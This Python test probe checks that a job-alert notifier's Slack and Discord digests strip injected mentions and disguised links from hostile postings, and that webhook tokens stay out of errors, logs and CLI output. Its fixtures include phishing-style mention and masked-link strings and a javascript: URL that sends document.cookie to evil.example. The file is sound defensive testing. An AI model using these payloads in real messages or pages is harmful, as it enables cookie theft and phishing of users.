"""Hostile-suite probe: posting text in chat pings, and a webhook's secret URL in errors and logs.

A lake holds two fitting postings with a hostile title and summary (an @channel, a link
disguised as indeed.com, Discord mentions), one of them with a javascript: job URL. The real
notify code reads them from the lake and sends the digest through Prefect's real SlackWebhook
and DiscordWebhook blocks (apprise) to a local receiver: no body may carry a mention or a
disguised link. Then a webhook answering 404 with a token in its path and query, through the
blocks and through `jobping notify`: the token may be in no error, log record or output.
"""

from __future__ import annotations

import asyncio
import io
import json
import logging
import os
import re
import subprocess
import sys
import traceback
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

from prefect.blocks.notifications import DiscordWebhook, SlackWebhook
from pydantic import SecretStr

from jobping.analysis import AnalysisResult, JobAnalysis
from jobping.contract import JobPosting, envelope_for
from jobping.digest import Digest
from jobping.settings import NOTIFY_MIN_SCORE
from jobping.stored import to_row
from standins.servers import free_port, received, webhook_receiver
from standins.webhook import chat_apps_at
from storage.delta import DeltaHistory
from storage.lake import Lake
from storage.pings import new_fitting_matches
from tasks.notify.channels import NotifyError, send_through

TITLE = "<!channel> URGENT [Verify your account](https://evil.example/login)"
SUMMARY = "Log in at <https://evil.example|indeed.com/viewjob?jk=1> now @everyone @here <@123456789012345678> <@&42>"
REAL_URL = "https://www.indeed.com/viewjob?jk=2&from=serp"
TOKEN, DISCORD_TOKEN, KEY = "XoXSECRETtoken123", "DiscordSECRETtoken456", "QueryKEYsecret789"
SECRETS = (TOKEN, DISCORD_TOKEN, KEY)
SCRAPED = datetime(2026, 12, 6, 23, 0, tzinfo=UTC)
SEND_SECONDS = 15
CLI_SECONDS = 60

# what Slack reads as a command: <!channel>, <@U1>, <https://x|shown>; a markdown link
SLACK_ACTS_ON = re.compile(r"<[^>]*>|\]\(")
# what Discord reads as a mention (found even behind a backslash), a channel link, a masked link
DISCORD_ACTS_ON = re.compile(r"@(?:everyone|here)|<@[!&]?\d|(?<!\\)<#|(?<!\\)\]\\?\(")


def hostile_rows() -> list[Any]:
    analysis = JobAnalysis(
        fit_score=97, verdict="apply", seniority="mid", remote_policy="remote", skills=["python"],
        salary_min_yearly=None, salary_max_yearly=None, salary_currency=None, red_flags=[], summary=SUMMARY,
    )  # fmt: skip
    result = AnalysisResult(analysis=analysis, model="probe", prompt_version="p1")
    rows = []
    for job_id, company in (("1", "Evil & <b>Co</b>"), ("2", "Other @everyone Ltd")):
        posting = JobPosting(id=job_id, site="indeed", job_url=REAL_URL, title=TITLE, company=company)
        rows.append(to_row(envelope_for(posting, SCRAPED), result, SCRAPED, f"msg-{job_id}"))
    # a lake written by something else: the contract refuses such a url on the queue
    rows[0]["job_url"] = "javascript:fetch('https://evil.example/'+document.cookie)"
    return rows


def blocks() -> dict[str, SlackWebhook | DiscordWebhook]:
    return {
        "slack": SlackWebhook(url=SecretStr(f"https://hooks.slack.com/services/T0001/B0001/{TOKEN}")),
        "discord": DiscordWebhook(webhook_id=SecretStr("1234567890"), webhook_token=SecretStr(DISCORD_TOKEN)),
    }


def leaked(text: str) -> bool:
    return any(secret in text for secret in SECRETS)


def send_hostile(digest: Digest, receiver: str) -> tuple[int, int]:
    """Through both blocks to the receiver; (bodies checked, postings listed with a link)."""
    with chat_apps_at(receiver):
        for name, block in blocks().items():
            asyncio.run(send_through(digest, block, f"{block.get_block_type_slug()}/{name}", SEND_SECONDS))
    bodies = {r["path"].split("/")[1]: json.loads(r["body"]) for r in received(receiver)}
    slack = bodies["services"]["attachments"][0]["text"]
    discord = bodies["api"]["content"]
    if found := SLACK_ACTS_ON.findall(slack):
        raise AssertionError(f"Slack received posting text it acts on: {found[:3]}")
    if found := DISCORD_ACTS_ON.findall(discord):
        raise AssertionError(f"Discord received posting text it acts on: {found[:3]}")
    for app, text in (("Slack", slack), ("Discord", discord)):
        if "javascript" in text.lower():
            raise AssertionError(f"{app} received the javascript: job url")
        if "URGENT" not in text:
            raise AssertionError(f"{app} received no posting text at all")
    links = [line.strip() for line in discord.splitlines() if line.strip().startswith("http")]
    if links != [REAL_URL]:
        raise AssertionError(f"Discord's links are {links}, not the one http(s) posting's own url")
    return len(bodies), len(links)


def fail_with_404(digest: Digest, receiver: str, work: Path) -> int:
    """The blocks and `jobping notify` against a webhook answering 404; how many failures were checked."""
    records = io.StringIO()
    handler = logging.StreamHandler(records)
    handler.setFormatter(logging.Formatter("%(name)s %(message)s"))
    root = logging.getLogger()
    level = root.level
    root.addHandler(handler)
    root.setLevel(logging.DEBUG)
    errors = []
    try:
        with chat_apps_at(receiver + "/answer/404"):
            for name, block in blocks().items():
                try:
                    asyncio.run(send_through(digest, block, name, SEND_SECONDS))
                except NotifyError as exc:
                    errors.append("".join(traceback.format_exception(exc)))
                else:
                    raise AssertionError(f"the {name} block reported a 404 as sent")
    finally:
        root.removeHandler(handler)
        root.setLevel(level)
    hook = f"{receiver}/answer/404/services/T0001/B0001/{TOKEN}?key={KEY}"
    env = {**os.environ, "JOBPING_DATA_DIR": str(work / "data"), "JOBPING_NOTIFY_WEBHOOK_URL": hook}
    env.pop("JOBPING_NOTIFY_BLOCK", None)
    cli = subprocess.run(
        [str(Path(sys.executable).parent / "jobping"), "notify"],
        env=env, capture_output=True, text=True, timeout=CLI_SECONDS, check=False,
    )  # fmt: skip
    places = {"an error": "\n".join(errors), "a log record": records.getvalue(), "the CLI": cli.stdout + cli.stderr}
    if found := [place for place, text in places.items() if leaked(text)]:
        raise AssertionError(f"a webhook's secret token reached {', '.join(found)}")
    if cli.returncode != 1 or "answered 404" not in cli.stdout:
        raise AssertionError(f"`jobping notify` against a 404 webhook said: {(cli.stdout + cli.stderr)[-200:]!r}")
    return len(errors) + 1


def probe(work: Path) -> str:
    lake = Lake(work / "data" / "lake")
    history = DeltaHistory(lake)
    history.ensure()
    history.append(hostile_rows())
    _, matches = new_fitting_matches(lake, NOTIFY_MIN_SCORE)
    if len(matches) != 2:
        raise AssertionError(f"the hostile lake gave {len(matches)} new matches, not 2")
    digest = Digest(matches)
    with webhook_receiver(work / "received.jsonl", free_port()) as receiver:
        bodies, links = send_hostile(digest, receiver)
    with webhook_receiver(work / "gone.jsonl", free_port()) as receiver:
        failures = fail_with_404(digest, receiver, work)
    return (
        f"2 hostile postings (@channel, <url|indeed.com>, [text](url), @everyone, <@id>, a javascript: url) "
        f"through Prefect's Slack and Discord blocks: {bodies} bodies with 0 mentions or disguised links, "
        f"{links} link (the posting's own https url), the javascript: one dropped; a 404 webhook with "
        f"a token in path and query: {failures} failures (2 blocks, `jobping notify`), token in 0 errors, "
        f"log records or CLI output"
    )
